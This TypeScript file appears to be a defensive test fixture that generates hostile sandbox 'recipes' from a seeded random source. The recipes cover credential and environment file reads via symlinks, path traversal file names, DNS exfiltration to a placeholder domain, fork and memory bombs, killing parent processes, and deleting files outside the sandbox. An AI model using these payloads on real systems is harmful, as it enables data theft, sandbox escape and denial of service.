/**
 * What a hostile recipe may try, each as the body of its `runRecipe(request)`. They find in `at` what there would be to
 * find, in `record` a record, and have `send(kind, body)` for frames of their own,
      `elf(name)` for system calls, and
 * `leak(bytes)`, which goes every way out that there is. Returning nothing,
      they leave what an honest recipe leaves.
 */

/** Numbers from a seed, the same on every machine (mulberry32). */
export class Dice {
  constructor(private state: number) {}

  /** From 0 up to and without `below`. */
  roll(below: number): number {
    this.state = (this.state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(this.state ^ (this.state >>> 15), 1 | this.state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  }

  of<T>(choices: readonly T[]): T {
    return choices[this.roll(choices.length)]!;
  }
}

type Trick = (dice: Dice) => string;

const PLACES = ['/etc/passwd', '/proc/1/environ', '/proc/self/environ', '/root/.bashrc', '/dev/zero', '/dev/mem'];
const target = (dice: Dice): string =>
  dice.of([...PLACES.map((path) => JSON.stringify(path)), 'at.secret', 'at.secret']);
const output = `job + '/model.bin'`;
const honest = `return { files: { 'model.bin': Buffer.from('weights') }, metrics: { trainingLoss: '0.5' } };`;

/** What comes out as an output, where it could be read at all, is looked through for what was planted. */
const give = (expression: string): string =>
  `return { files: { 'model.bin': ${expression} }, metrics: { trainingLoss: '0.5' } };`;

export const TRICKS: Record<string, Trick> = {
  symbolicLink: (dice) => `fs.symlinkSync(${target(dice)}, ${output}); ${give(`read(${output})`)}`,
  hardLink: (dice) => `fs.linkSync(${target(dice)}, ${output}); ${give(`read(${output})`)}`,
  linkedResumePoint: (dice) =>
    `fs.symlinkSync(${target(dice)}, job + '/epochs/resume.bin'); await request.onEpoch(epoch(1)); ${honest}`,
  namedPipe: () => `child.spawnSync('/usr/bin/mkfifo', [${output}]); ${give(`read(${output})`)}`,
  endlessDevice: (dice) => `
    send(3, fileHead(1, ${dice.of([0xffffffff, 70_000_000, 1000])}));
    const zero = fs.openSync('/dev/zero', 'r'); const piece = Buffer.alloc(${dice.of([1 << 20, 4096, 7])});
    for (;;) { fs.readSync(zero, piece); send(4, piece); }`,
  hiddenFile: (dice) => give(`read(${target(dice)})`),
  hiddenFolder: () => give(`Buffer.from(list(at.folder) + list('/root') + list('/home') + list('/tmp'))`),
  environment: (dice) => give(`read('/proc/${dice.of(['1', 'self', "' + at.parent + '"])}/environ')`),
  otherMemory: (dice) =>
    give(`read('/proc/${dice.of(['1', "' + at.parent + '"])}/${dice.of(['mem', 'maps', 'cmdline'])}')`),
  otherRoot: () => give(`read('/proc/1/root' + at.secret) `),
  inheritedFiles: () =>
    give(`Buffer.concat(list('/proc/self/fd').split(' ').map((fd) => read('/proc/self/fd/' + fd)))`),
  malformedFrame: (dice) =>
    `send(${dice.of([0, 8, 9, 99, 255])}, Buffer.alloc(${dice.roll(100)})); leak(record); ${honest}`,
  randomBytes: (dice) => `write(require('node:crypto').randomBytes(${1 + dice.roll(5000)})); ${honest}`,
  hugeFrame: (dice) =>
    `write(Buffer.from([${dice.of([2, 3, 4, 5, 6])}, 255, 255, 255, ${dice.roll(256)}]));
      for (;;) write(Buffer.alloc(65536));`,
  cutFrame: (dice) => `write(Buffer.from([4, 0, 0, 0]).subarray(0, ${1 + dice.roll(4)})); process.exit(0);`,
  endlessEpochs: () => `for (let n = 1; ; n++) send(2, epochBytes(n, 1e6, 0.5, 1));`,
  backwardEpochs: (dice) =>
    `send(2, epochBytes(1, 1, 0, 1)); send(2, epochBytes(${dice.of([1, 0, -1])}, 1, 0, 1)); ${honest}`,
  recordAsNumbers: () => `for (const byte of record) send(2, epochBytes(byte, 255, byte, byte)); ${honest}`,
  wildNumbers: (dice) =>
    `send(2, epochBytes(1, 1, ${dice.of(['NaN', 'Infinity', '-Infinity', '1e300'])}, 1)); ${honest}`,
  endlessResumePoints: () => `for (;;) { send(3, fileHead(0, 4)); send(4, Buffer.alloc(4)); }`,
  hugeResumePoint: () => `send(3, fileHead(0, 0xfffffff0)); ${honest}`,
  undeclaredFile: (dice) => `
    return { files: { ${JSON.stringify(
      dice.of(['../../escape', '/etc/cron.d/x', 'result.json', '.', '__proto__', 'model.bin\u0000x']),
    )}: record,
    'model.bin': Buffer.alloc(3) }, metrics: {} };`,
  unknownFile: (dice) => `send(3, fileHead(${dice.of([2, 3, 17, 255])}, 4)); send(4, record.subarray(0, 4));
      ${honest}`,
  pieceOfNothing: () => `send(4, record); ${honest}`,
  overlongFile: () => `send(3, fileHead(1, 4)); send(4, Buffer.alloc(5)); ${honest}`,
  fileTwice: () => `for (const n of [1, 2]) { send(3, fileHead(1, 4)); send(4, Buffer.alloc(4)); } ${honest}`,
  missingFile: () => `send(5, Buffer.alloc(0)); await forever();`,
  missingMetrics: () => `return { files: { 'model.bin': Buffer.alloc(1) } };`,
  namedMetrics: () => `return { files: { 'model.bin': Buffer.alloc(1) }, metrics: { [record.toString()]: '1' } };`,
  wordedMetrics: (dice) =>
    `return { files: { 'model.bin': Buffer.alloc(1) }, metrics: { trainingLoss: ${dice.of([
      'record.toString()',
      '"NaN"',
      '"1e999"',
      '{}',
      'null',
    ])} } };`,
  pollutedMetrics: () =>
    `return { files: { 'model.bin': Buffer.alloc(1) }, metrics: JSON.parse('{"__proto__": {"polluted": "1"},
      "constructor": "1"}') };`,
  rawMetrics: (dice) => `send(5, Buffer.from([${dice.of([3, 9, 255])}, 0, 0, 0, 0, 0, 0, 0, 0])); await forever();`,
  pollutedMessage: (dice) =>
    `const text = Buffer.from('{"__proto__":{"polluted":true},"kind":"done"}');
      send(${dice.of([1, 2, 3, 5, 6])}, text); ${honest}`,
  wordedFailure: (dice) =>
    `throw Object.assign(new Error(record.toString()), {
      name: 'RecipeError', code: ${dice.of(['record.toString()', '"badRecording"', '"__proto__"', '{}'])} });`,
  hookedFailure: () =>
    `throw { get name() { leak(record); return 'RecipeError'; }, get code() { return record.toString(); } };`,
  unknownFailure: (dice) => `send(6, Buffer.from([${dice.of([60, 200, 255])}])); await forever();`,
  throwsNothing: (dice) =>
    `throw ${dice.of(['null', 'undefined', '0', 'record', 'new Proxy({}, { get() { throw 1; } })'])};`,
  doneTwice: () => `
    send(3, fileHead(1, 4)); send(4, Buffer.alloc(4));
    for (const n of [1, 2, 3]) send(5, Buffer.alloc(0)); send(6, Buffer.from([0])); leak(record); await forever();`,
  changesAfterDone: () => `
    child.spawn(process.execPath, ['--eval', 'setInterval(() => { try
      { require("node:fs").writeSync(3, "late") } catch {} }, 1)'],
      { detached: true, stdio: ['ignore', 'ignore', 'ignore', 3] }).unref(); ${honest}`,
  survivor: () => `
    child.spawn(process.execPath, ['--eval', 'setInterval(() => {}, 1000) // ' + at.mark], {
      detached: true, stdio: 'ignore' }).unref();
    ${honest}`,
  forkBomb: () => `
    const bomb = 'for (;;) try { require("node:child_process").spawn(process.execPath, ["--eval",
      process.argv[1]], { detached: true, stdio: "ignore" }) } catch {}';
    for (;;) try { child.spawn(process.execPath, ['--eval', bomb], { detached: true, stdio: 'ignore' });
      await 0; } catch {}`,
  threadBomb: () =>
    `for (;;) { new (require('node:worker_threads').Worker)('setInterval(() => {}, 1e6)', {
      eval: true }).on('error', () => {}); await pause(0); }`,
  memoryBomb: (dice) =>
    `const taken = []; for (;;) { taken.push(Buffer.alloc(${dice.of([1, 8, 64])} << 20, 1));
      ${dice.of(['', 'await pause(1);'])} }`,
  heapBomb: () => `let list = []; for (;;) list = [list, 'x'.repeat(100) + list.length, Array(1000).fill(list)];`,
  fileBomb: (dice) => `
    for (let n = 0; ; n++) { const file = fs.openSync(job + '/' + n, 'w');
      try { for (;;) fs.writeSync(file, Buffer.alloc(1 << 20)); } catch (error) { fs.closeSync(file);
      if (n > ${dice.roll(5)}) throw error; } }`,
  sparseFile: () => `fs.truncateSync(job + '/model.bin', 2 ** 40); ${give(`read(${output})`)}`,
  manyFiles: () => `for (let n = 0; n < 2000; n++) fs.writeFileSync(job + '/f' + n, record); ${honest}`,
  shutFolders: () => `fs.mkdirSync(job + '/a/b', { recursive: true }); fs.chmodSync(job + '/a', 0); ${honest}`,
  network: () => `await out.tcp(record); ${honest}`,
  datagram: () => `await out.udp(record); ${honest}`,
  abstractSocket: () => `await out.abstract(record); ${honest}`,
  pathSocket: () => `await out.path(record); ${honest}`,
  names: () =>
    `await require('node:dns').promises.lookup(record.toString('hex').slice(0,
      40) + '.example').catch(() => {}); ${honest}`,
  inspector: () =>
    `try { require('node:inspector').open(0, '127.0.0.1'); } catch {} process.kill(process.pid, 'SIGUSR1');
      await pause(20); ${honest}`,
  writesOutside: (dice) => `
    for (const place of [at.folder, '/', '/usr/lib', '/dev', '/dev/shm', '/tmp', '/proc/sys/kernel'])
      try { fs.writeFileSync(place + '/${dice.of(['core', 'x', '.bashrc'])}', record); } catch {} ${honest}`,
  removesOutside: () =>
    `for (const place of [at.secret, at.folder, process.execPath]) try { fs.rmSync(place, { recursive: true });
      } catch {} ${honest}`,
  killsParent: (dice) => `
    for (const pid of [at.parent, process.ppid, 1, -1,
      0]) if (pid !== 0 || ${dice.roll(2)}) try { process.kill(pid, '${dice.of([
        'SIGKILL',
        'SIGTERM',
        'SIGSTOP',
      ])}'); } catch {} ${honest}`,
  systemCall: (dice) => `${give(`Buffer.from(elf(${dice.roll(1000)}))`)}`,
  allSystemCalls: () => give(`Buffer.from(Object.keys(calls).map((_, n) => elf(n)).join(''))`),
  exitStatus: () => `process.exit(record[0]);`,
  signalStatus: (dice) => `process.kill(process.pid, ${1 + dice.roll(31)}); await forever();`,
  aborts: () => `process.abort();`,
  prints: () =>
    `console.log(record.toString()); console.error(record.toString()); fs.writeSync(1, record);
      fs.writeSync(2, record); ${honest}`,
  writesToItsInput: () => `try { fs.writeSync(0, record); } catch {} ${honest}`,
  workerMessages: () =>
    `process.send?.({ kind: 'done', metrics: { [record]: '1' } }); process.emit('message', record); ${honest}`,
  endless: () => `for (;;);`,
  silent: () => `await forever();`,
  closesPipe: (dice) => `fs.closeSync(${dice.of([3, 0])}); ${dice.of(['await forever();', honest])}`,
  breaksBuiltIns: () => `
    const breaks = () => { throw new Error(record.toString()); };
    Buffer.prototype.set = Uint8Array.prototype.set = JSON.stringify = Object.keys = breaks;
    Array.prototype.indexOf = () => 0; ${honest}`,
  unhandled: () =>
    `Promise.reject(new Error(record.toString())); setTimeout(() => { throw record; }, 0); await pause(50);
      ${honest}`,
  nativeAddon: () =>
    `fs.writeFileSync(job + '/x.node', Buffer.from(Object.values(calls)[0], 'base64'));
      try { require(job + '/x.node'); } catch {} ${honest}`,
};
